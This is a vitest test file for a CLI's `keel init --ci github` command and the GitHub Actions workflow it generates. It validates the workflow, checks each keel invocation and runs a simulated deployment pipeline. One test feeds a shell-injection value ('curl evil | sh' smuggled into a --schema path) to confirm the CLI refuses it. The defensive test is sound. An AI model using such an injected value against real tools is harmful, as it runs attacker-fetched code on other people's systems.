/**
 * `keel init --ci github` and the workflow it writes: valid for GitHub Actions (action-validator,
 * the validator GitHub's schema and rules are checked with from npm), every `keel` line parsed by
 * the real CLI's definitions, every script clean for shellcheck, and the whole workflow run for a
 * push to main on this machine: each job in a fresh clone of a user's project, handing over state
 * only through the shared stores (PostgreSQL and an S3 bucket) and the jobs' outputs, the
 * staging and production endpoints real `keel serve` processes on loopback ports.
 */

import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { validateWorkflow } from '@action-validator/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { githubWorkflow } from '../../src/deploy/index.js';
import {
  type Contexts,
  evaluate,
  type JobRun,
  runJob,
  type Step,
  type Workflow,
} from '../helpers/actions-runner.js';
import {
  BANK_COLUMNS,
  BANK_DVC_YAML,
  BANK_SCHEMA,
  bankRows,
  bankTrainYaml,
  writeBankCsv,
} from '../helpers/bank.js';
import { type BackgroundKeel, CLI, keel, keelJson, runProcess, startKeel } from '../helpers/cli.js';
import { cliParse } from '../helpers/cli-parse.js';
import { startS3Server, type TestS3Server } from '../helpers/s3-server.js';
import { serviceUrl } from '../helpers/services.js';
import { tempDir } from '../helpers/temp.js';
import { installedTool } from '../helpers/tools.js';
import { freshPostgresSchema } from '../helpers/tracking.js';

const INIT_FLAGS = [
  '--model',
  'bank',
  '--dataset',
  'bank',
  '--data',
  'bank-full.csv',
  '--schema',
  'bank.schema.yaml',
  '--eval-data',
  'bank-new.csv',
  '--thresholds',
  'thresholds.yaml',
  '--probe-data',
  'probe.json',
];

/** The words of a shell line up to a redirection, pipe or list operator, quotes removed. */
function shellWords(line: string): string[] {
  const words: string[] = [];
  let word: string | undefined;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (c === '"' || c === "'") {
      const end = line.indexOf(c, i + 1);
      word = (word ?? '') + line.slice(i + 1, end);
      i = end;
    } else if (/\s/.test(c)) {
      if (word !== undefined) words.push(word);
      word = undefined;
    } else if ('>|;&'.includes(c)) break;
    else word = (word ?? '') + c;
  }
  if (word !== undefined) words.push(word);
  return words;
}

/** The `keel` command lines of a script, each as its arguments. */
const keelLines = (script: string): string[][] =>
  script
    .replace(/\\\n/g, ' ')
    .split('\n')
    .map((l) => l.trim())
    .filter((l) => l.startsWith('keel '))
    .map((l) => shellWords(l).slice(1));

const runSteps = (wf: Workflow) =>
  Object.entries(wf.jobs).flatMap(([job, j]) => j.steps.filter((s) => s.run).map((s) => ({ job, step: s })));

describe('keel init --ci github', () => {
  const cwd = tempDir('keel-init-');

  it('writes .github/workflows/keel.yml once, names the files the project lacks, and replaces it only with --force', async () => {
    writeFileSync(join(cwd, 'thresholds.yaml'), 'roc_auc: { min: 0.85 }\n');
    const first = await keelJson<{ written: string[]; missing: string[] }>(
      ['init', '--ci', 'github', ...INIT_FLAGS],
      {
        cwd,
      },
    );
    expect(first).toEqual({
      written: ['.github/workflows/keel.yml'],
      missing: ['bank.schema.yaml', 'bank-new.csv', 'probe.json'],
    });
    const file = join(cwd, '.github', 'workflows', 'keel.yml');
    expect(readFileSync(file, 'utf8')).toBe(
      githubWorkflow({
        model: 'bank',
        dataset: 'bank',
        data: 'bank-full.csv',
        schema: 'bank.schema.yaml',
        evalData: 'bank-new.csv',
        thresholds: 'thresholds.yaml',
        probeData: 'probe.json',
      }),
    );
    const again = await keel(['init', '--ci', 'github'], { cwd });
    expect(again.code).toBe(3);
    expect(again.stderr).toContain('already exists; --force replaces it');
    expect(readFileSync(file, 'utf8')).toContain('KEEL_MODEL: "bank"');
    expect((await keel(['init', '--ci', 'github', '--force'], { cwd })).code).toBe(0);
    expect(readFileSync(file, 'utf8')).toContain('KEEL_MODEL: "model"');
  });

  it('refuses an unknown CI system and a setting that would break the workflow (exit 2), writing nothing', async () => {
    const other = tempDir('keel-init-bad-');
    const gitlab = await keel(['init', '--ci', 'gitlab'], { cwd: other });
    expect(gitlab.code).toBe(2);
    expect(gitlab.stderr).toContain("--ci must be one of github, got 'gitlab'");
    const injected = await keel(['init', '--ci', 'github', '--schema', 'x.yaml"; curl evil | sh; "'], {
      cwd: other,
    });
    expect(injected.code).toBe(2);
    expect(injected.stderr).toMatch(/schema: a path without quotes/);
    expect(existsSync(join(other, '.github'))).toBe(false);
  });
});

describe('the workflow keel init writes', () => {
  const text = githubWorkflow({ model: 'bank' });
  const wf = parseYaml(text) as Workflow & { on: { push: { paths: string[] } } };

  it('validates with action-validator, which refuses broken copies', () => {
    expect(validateWorkflow(text).errors).toEqual([]);
    expect(validateWorkflow(githubWorkflow()).errors).toEqual([]);
    const broken = [
      text.replace('needs: [register, staging]', 'needs: [register, stage]'),
      text.replace('    runs-on: ubuntu-latest\n', ''),
      text.replace('        run: npm test', '        runs: npm test'),
    ];
    for (const b of broken) expect(validateWorkflow(b).errors.length).toBeGreaterThan(0);
  });

  it('runs on a push touching code, configs or dvc.lock; registers and deploys only from main; production is a protected environment', () => {
    expect(wf.on.push.paths).toEqual(expect.arrayContaining(['dvc.lock', '**.ts', '**.yaml', '**.py']));
    expect(wf.jobs.register.if).toBe("github.event_name == 'push' && github.ref == 'refs/heads/main'");
    expect(wf.jobs.register.needs).toBe('validate');
    expect(wf.jobs.staging.needs).toBe('register');
    expect(wf.jobs.staging.environment).toMatchObject({ name: 'staging' });
    expect(wf.jobs.production.needs).toEqual(['register', 'staging']);
    expect(wf.jobs.production.environment).toMatchObject({ name: 'production' });
    // Keel's approval is recorded only with the production environment's approver token.
    const approve = wf.jobs.production.steps.find((s) => s.name === 'Record the approval in Keel');
    const when = (token: string, request: string) =>
      evaluate(approve?.if ?? '', {
        env: { KEEL_APPROVER_TOKEN: token },
        steps: { promote: { outputs: { request_id: request } } },
      });
    expect([when('t', '3'), when('', '3'), when('t', '')]).toEqual([true, false, false]);
  });

  it('makes every step but installing and testing a keel command, each one parsed by the real CLI', async () => {
    const used: string[] = [];
    const flagsByCommand = new Map<string, Set<string>>();
    for (const { job, step } of runSteps(wf)) {
      const run = step.run as string;
      expect(run, `${job}: ${step.name}`).not.toContain('${{');
      const first =
        run
          .split('\n')
          .find((l) => l.trim() && !l.trim().startsWith('#'))
          ?.trim() ?? '';
      if (/^npm (ci|test)$/.test(first)) continue;
      expect(first, `${job}: ${step.name}`).toMatch(/^keel /);
      for (const argv of keelLines(run)) {
        const parsed = await cliParse(argv);
        expect(parsed.unknown, argv.join(' ')).toEqual([]);
        const flags = flagsByCommand.get(parsed.command.join(' ')) ?? new Set<string>();
        for (const a of argv) if (a.startsWith('--')) flags.add(a);
        flagsByCommand.set(parsed.command.join(' '), flags);
        used.push(
          `${parsed.command.join(' ')}${argv.includes('--thresholds') ? ' --thresholds' : ''}${argv.includes('--to') ? ` --to ${argv[argv.indexOf('--to') + 1]}` : ''}`,
        );
      }
    }
    expect(used).toEqual([
      'ingest',
      'repro',
      'evaluate --thresholds',
      'models register',
      'models benchmark',
      'models promote --to Staging',
      'probe',
      'models promote --to Production',
      'models approve',
      'probe',
    ]);
    // The built CLI's own --help of each command lists every flag the workflow gives it.
    for (const [command, flags] of flagsByCommand) {
      const help = await keel([...command.split(' '), '--help'], { cwd: tempDir('keel-help-') });
      expect(help.code, command).toBe(0);
      for (const flag of flags)
        expect(help.stdout, `keel ${command} ${flag}`).toMatch(new RegExp(`${flag}\\b`));
    }
    // The check itself catches a flag the CLI does not have.
    await expect(
      cliParse(['evaluate', '--model', 'm.onnx', '--data', 'd.csv', '--treshold', 't.yaml']),
    ).resolves.toMatchObject({
      unknown: ['--treshold', 't.yaml'],
    });
  });

  const shellcheck = installedTool('shellcheck');
  it.skipIf(!shellcheck)('has scripts shellcheck finds nothing in', async () => {
    const dir = tempDir('keel-workflow-sh-');
    for (const [i, { job, step }] of runSteps(wf).entries()) {
      const file = join(dir, `step-${i}.sh`);
      writeFileSync(file, step.run as string);
      const res = await runProcess(shellcheck as string, ['--shell', 'bash', '--format', 'gcc', file], {
        cwd: dir,
      });
      expect(res.stdout, `${job}: ${step.name}`).toBe('');
    }
  });
});

// Production is guarded by gates a fresh model can pass here, and by an approval.
const KEEL_YAML = `governance:
  stages:
    Production:
      requireApproval: true
      gates:
        - { kind: servable }
        - { kind: metric, metric: roc_auc, op: '>=', value: 0.85 }
        - { kind: latency, maxP99Ms: 50 }
        - { kind: lineage }
`;

const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', ['-c', 'user.email=ana@example.com', '-c', 'user.name=ana', ...args], { cwd });

describe('the workflow, run for a push to main', () => {
  const project = tempDir('keel-gh-project-');
  const shared = tempDir('keel-gh-shared-');
  const bin = tempDir('keel-gh-bin-');
  const servers: BackgroundKeel[] = [];
  let dropSchema: (() => Promise<void>) | undefined;
  let s3: TestS3Server | undefined;
  let store: Record<string, string>;
  let wf: Workflow;
  let contexts: Contexts;

  beforeAll(async () => {
    const pg = await serviceUrl('postgres');
    const db = pg ? await freshPostgresSchema(pg) : undefined;
    dropSchema = db?.drop;
    s3 = await startS3Server();
    const query = new URLSearchParams({
      endpoint: s3.endpoint,
      region: s3.env.AWS_REGION,
      forcePathStyle: 'true',
    });
    store = {
      KEEL_DB: db?.url ?? join(shared, 'keel.db'),
      KEEL_ARTIFACTS: `s3://keel-test/ci?${query}`,
      AWS_ACCESS_KEY_ID: s3.env.AWS_ACCESS_KEY_ID,
      AWS_SECRET_ACCESS_KEY: s3.env.AWS_SECRET_ACCESS_KEY,
      AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED: 'true',
    };

    writeBankCsv(join(project, 'bank-full.csv'), 4000, 1);
    writeBankCsv(join(project, 'bank-new.csv'), 1500, 2);
    writeFileSync(join(project, 'bank.schema.yaml'), BANK_SCHEMA);
    writeFileSync(join(project, 'train.yaml'), bankTrainYaml(60));
    writeFileSync(join(project, 'dvc.yaml'), BANK_DVC_YAML);
    writeFileSync(join(project, 'keel.yaml'), KEEL_YAML);
    writeFileSync(join(project, 'thresholds.yaml'), 'roc_auc: { min: 0.85 }\n');
    const columns = BANK_COLUMNS.filter((c) => c !== 'y');
    const data = bankRows(3, 7).map((r) => r.slice(0, -1));
    writeFileSync(join(project, 'probe.json'), JSON.stringify({ dataframe_split: { columns, data } }));
    writeFileSync(join(project, '.gitignore'), '.keel/\n/model.onnx\n');
    await keelJson(['init', '--ci', 'github', ...INIT_FLAGS], { cwd: project });
    git(project, 'init', '-q', '-b', 'main');
    git(project, 'add', '.');
    git(project, 'commit', '-qm', 'bank marketing model with keel CI/CD');
    wf = parseYaml(readFileSync(join(project, '.github', 'workflows', 'keel.yml'), 'utf8')) as Workflow;

    writeFileSync(join(bin, 'keel'), `#!/bin/sh\nexec "${process.execPath}" "${CLI}" "$@"\n`, {
      mode: 0o755,
    });
    const token = async (user: string, role: string) =>
      (
        await keelJson<{ token: string }>(['tokens', 'create', '--user', user, '--role', role], {
          cwd: shared,
          env: store,
        })
      ).token;
    contexts = {
      github: {
        event_name: 'push',
        ref: 'refs/heads/main',
        server_url: 'https://github.com',
        repository: 'ana/bank',
        run_id: '4242',
      },
      secrets: { ...store, KEEL_CI_TOKEN: await token('ci', 'writer') },
      vars: {},
    };
  }, 300_000);
  afterAll(async () => {
    for (const s of servers) await s.stop();
    await dropSchema?.();
    await s3?.close();
  });

  /** Starts a keel serve of `model` on the shared stores; its URL. */
  async function serve(model: string): Promise<string> {
    const server = startKeel(
      ['serve', '--port', '0', '--model', model, '--refresh-interval', '200', '--no-scheduler'],
      {
        cwd: tempDir('keel-gh-serve-'),
        env: store,
      },
    );
    servers.push(server);
    return ((await server.waitFor(/keel serving on (http:\/\/\S+)/)) as RegExpExecArray)[1];
  }

  /** Runs a job in a fresh clone of the project, as a runner would after actions/checkout. */
  async function job(
    id: string,
    needs: Record<string, JobRun>,
    env: Partial<Contexts> = {},
    beforeStep?: (s: Step) => Promise<void>,
  ) {
    const clone = tempDir(`keel-gh-${id}-`);
    git(clone, 'clone', '-q', project, '.');
    const run = await runJob(wf, id, { ...contexts, ...env }, needs, {
      cwd: clone,
      path: [bin],
      skip: (s) => /^npm /.test(s.run ?? ''),
      beforeStep,
    });
    const failed = run.steps.find((s) => s.status === 'failure');
    expect(run.status, failed ? `${failed.name}\n${failed.stdout}\n${failed.stderr}` : id).toBe('success');
    return run;
  }

  it('validates, registers, deploys to staging and tests it there, then promotes to production with the approval recorded in Keel', async () => {
    const validate = await job('validate', {});
    expect(validate.outputs.run_id).toMatch(/^[0-9a-f]{32}$/);
    expect(validate.steps.map((s) => `${s.name}: ${s.status}`)).toEqual([
      'actions/checkout@v4: skipped',
      'actions/setup-node@v4: skipped',
      'Install: skipped',
      'Test: skipped',
      'Validate the data: success',
      'Reproduce the pipeline: success',
      'Evaluate against the thresholds: success',
    ]);

    const register = await job('register', { validate });
    expect(register.outputs.version).toBe('1');

    const staging = { vars: { KEEL_URL: '' } };
    await job('staging', { register }, staging, async (step) => {
      // The staging deployment follows the Staging stage; it starts once there is a version in it.
      if (step.name === 'Integration test against the staging endpoint')
        staging.vars.KEEL_URL = await serve('models:/bank/Staging');
    });

    const production = {
      vars: { KEEL_URL: '' },
      secrets: { ...contexts.secrets, KEEL_APPROVER_TOKEN: '' },
    };
    production.secrets.KEEL_APPROVER_TOKEN = (
      await keelJson<{ token: string }>(['tokens', 'create', '--user', 'release', '--role', 'approver'], {
        cwd: shared,
        env: store,
      })
    ).token;
    const prod = await job(
      'production',
      { register, staging: { status: 'success', outputs: {}, steps: [] } },
      production,
      async (step) => {
        if (step.name === 'Check the production endpoint serves it')
          production.vars.KEEL_URL = await serve('models:/bank@champion');
      },
    );
    expect(prod.steps.filter((s) => s.status === 'success').map((s) => s.name)).toEqual([
      'Promote through the governance gates',
      'Record the approval in Keel',
      'Check the production endpoint serves it',
    ]);

    // The run's files and the registered version are in the bucket, where every job found them.
    const keys = [...(s3?.buckets.get('keel-test')?.keys() ?? [])];
    expect(keys.some((k) => k.startsWith('ci/models/bank/1/'))).toBe(true);
    expect(keys.some((k) => k.includes(`${validate.outputs.run_id}/artifacts/model/`))).toBe(true);

    const audit = await keelJson<Array<{ action: string; actor: string; reason?: string | null }>>(
      ['models', 'audit', 'bank'],
      {
        cwd: shared,
        env: store,
      },
    );
    const approval = audit.find((a) => a.actor === 'release');
    expect(approval?.reason).toBe(
      'approved in the GitHub production environment review of https://github.com/ana/bank/actions/runs/4242',
    );
    expect(audit.some((a) => a.actor === 'ci')).toBe(true);
    const shown = await keel(['models', 'show', 'bank'], { cwd: shared, env: store });
    expect(shown.stdout).toMatch(/@champion -> 1/);
  }, 900_000);

  it('stops at the gate that fails: a version below the thresholds never reaches staging', async () => {
    writeFileSync(join(project, 'thresholds.yaml'), 'roc_auc: { min: 0.999 }\n');
    git(project, 'commit', '-qam', 'an impossible threshold');
    const clone = tempDir('keel-gh-refused-');
    git(clone, 'clone', '-q', project, '.');
    const run = await runJob(
      wf,
      'validate',
      contexts,
      {},
      { cwd: clone, path: [bin], skip: (s) => /^npm /.test(s.run ?? '') },
    );
    expect(run.status).toBe('failure');
    const failed = run.steps.at(-1);
    expect(failed?.name).toBe('Evaluate against the thresholds');
    expect(`${failed?.stdout}${failed?.stderr}`).toMatch(/roc_auc/);
    expect(
      (await runJob(wf, 'register', contexts, { validate: run }, { cwd: clone, path: [bin] })).status,
    ).toBe('skipped');
  }, 600_000);
});
